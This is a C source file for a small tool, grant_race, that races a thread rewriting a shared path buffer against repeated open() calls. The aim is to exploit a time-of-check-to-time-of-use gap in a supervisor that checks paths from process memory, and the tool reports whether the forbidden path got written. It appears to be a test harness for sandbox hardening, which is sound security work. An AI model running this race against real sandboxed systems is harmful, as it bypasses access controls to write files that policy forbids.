/* grant_race PATH_A PATH_B N: opens a file for writing N times through one
 * path buffer while a second thread keeps rewriting the buffer between
 * PATH_A and PATH_B (same length), byte by byte: the TOCTOU race against a
 * supervisor that decides on the path it read from this process's memory.
 * Prints how many opens succeeded and whether PATH_B exists afterwards. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char path[4096];
static const char *a, *b;
static size_t len;
static atomic_int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		for (size_t i = 0; i < len; i++)
			__atomic_store_n(&path[i], b[i], __ATOMIC_RELAXED);
		for (size_t i = 0; i < len; i++)
			__atomic_store_n(&path[i], a[i], __ATOMIC_RELAXED);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc != 4 || strlen(argv[1]) != strlen(argv[2]) || strlen(argv[1]) >= sizeof(path)) {
		fprintf(stderr, "usage: grant_race PATH_A PATH_B N (paths of one length)\n");
		return 2;
	}
	a = argv[1];
	b = argv[2];
	len = strlen(a);
	memcpy(path, a, len);
	int n = atoi(argv[3]), opened = 0;
	pthread_t t;
	if (pthread_create(&t, NULL, flip, NULL) != 0)
		return 1;
	for (int i = 0; i < n; i++) {
		int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (fd >= 0) {
			opened++;
			close(fd);
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("a %s, b %s\n", access(a, F_OK) == 0 ? "exists" : "absent", access(b, F_OK) == 0 ? "exists" : "absent");
	fprintf(stderr, "%d of %d opens succeeded\n", opened, n);
	return 0;
}
